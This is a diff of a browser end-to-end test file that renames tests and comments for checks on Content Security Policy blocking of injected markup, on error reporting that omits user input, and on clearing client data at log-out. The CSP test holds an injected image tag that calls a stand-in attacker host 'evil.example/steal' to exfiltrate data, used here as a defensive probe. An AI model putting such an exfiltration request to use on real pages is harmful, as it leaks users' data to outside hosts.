@@ -4,11 +4,11 @@ import { becomeClient, expect, type Surroundings, test } from './kantor.ts'
 
 const serverLog = (service: Surroundings) => readFileSync(join(service.kantor.dataDirectory, 'server.log'), 'utf8')
 
-test.describe('a page that somebody got markup into', () => {
+test.describe('a page with injected markup', () => {
   test.use({ expectedProblem: /Content Security Policy|TrustedScript|TrustedHTML/ })
 
   // What the browser then reports, it collects for up to a minute: taking it in is tested at the server.
-  test('runs none of it and loads none of it', async ({ page }) => {
+  test('runs and loads nothing of it', async ({ page }) => {
     await page.goto('/app/login')
     await expect(page.getByLabel('Email')).toBeVisible()
     const { stolen, refused, blocked } = await page.evaluate(async () => {
@@ -19,7 +19,7 @@ test.describe('a page that somebody got markup into', () => {
         refused = String(error)
       }
       const violation = new Promise<SecurityPolicyViolationEvent>((resolve) => {
-        // The refused markup is told of in its own turn.
+        // The refused markup is reported separately.
         document.addEventListener('securitypolicyviolation', (event) => event.effectiveDirective === 'img-src' && resolve(event))
       })
       document.body.append(Object.assign(document.createElement('img'), { src: 'https://evil.example/steal?what=everything' }))
@@ -32,10 +32,10 @@ test.describe('a page that somebody got markup into', () => {
   })
 })
 
-test.describe('a page in which something breaks', () => {
+test.describe('a page with an error', () => {
   test.use({ expectedProblem: /broken on purpose/ })
 
-  test('tells the operator where, without what the client typed', async ({ page, service }) => {
+  test('reports it to the operator, without what the client typed', async ({ page, service }) => {
     await page.goto('/app/login')
     await expect(page.getByLabel('Email')).toBeVisible()
     await page.evaluate(() =>
@@ -48,7 +48,7 @@ test.describe('a page in which something breaks', () => {
   })
 })
 
-test('after the log-out nothing of the client is left in the browser', async ({ page, service }) => {
+test('after a log-out, the browser keeps nothing of the client', async ({ page, service }) => {
   await page.goto('/app/forgot-password')
   await page.getByLabel('Email').fill('somebody@example.com')
   await page.getByRole('button', { name: 'Send password reset link' }).click()
